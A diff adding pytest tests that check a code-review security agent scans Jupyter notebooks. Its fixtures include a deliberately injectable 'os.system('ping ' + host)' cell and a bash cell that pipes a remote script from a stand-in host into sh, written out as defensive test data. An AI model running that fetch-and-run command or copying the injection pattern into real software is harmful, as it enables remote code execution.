@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 
 import pytest
@@ -113,6 +114,51 @@ def test_a_declared_encoding_that_reads_the_same_code_passes(tmp_path, source):
     result = run_agents(repo.change(), [SecurityAgent], config=FAST)
     result.assert_verdict("PASS")
     assert _unread(result) == {}
+
+
+def _notebook(*cells: tuple[str, list[str]]) -> str:
+    """A notebook as Jupyter writes it (``indent=1``): one source line to a line of JSON."""
+    doc = {
+        "cells": [
+            {"cell_type": kind, "metadata": {}, "source": source}
+            | ({"execution_count": None, "outputs": []} if kind == "code" else {})
+            for kind, source in cells
+        ],
+        "metadata": {},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    return json.dumps(doc, indent=1) + "\n"
+
+
+def test_a_notebooks_code_is_scanned_on_its_own_lines(tmp_path):
+    """Round-4 red team: a docs build runs the notebook; its shell injection PASSed."""
+    code = ["%matplotlib inline\n", "import os\n", "host = input()\n", "os.system('ping ' + host)"]
+    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent])
+    result.assert_verdict("FAIL")
+    line = notebook.splitlines().index("    \"os.system('ping ' + host)\"") + 1
+    result.assert_finding("security.bandit.B605", path="docs/tour.ipynb", line=line)
+    result.assert_finding(
+        "security.semgrep.subprocess-shell-with-non-literal-command", path="docs/tour.ipynb"
+    )
+
+
+def test_a_notebook_of_ordinary_code_passes(tmp_path):
+    code = ["%matplotlib inline\n", "!pip list\n", "import json\n", "json.dumps({'a': 1})"]
+    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code), ("code", []))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent])
+    result.assert_verdict("PASS")
+    assert result.agent("security").analysed.files == ("docs/tour.ipynb",)
+
+
+def test_a_notebook_cell_in_another_language_is_not_a_pass(tmp_path):
+    notebook = _notebook(("code", ["%%bash\n", "curl -s http://example.invalid/x.sh | sh\n"]))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
+    _assert_at_best_escalate(result, "docs/tour.ipynb")
 
 
 def test_submodule_pointer_is_not_a_pass(tmp_path):
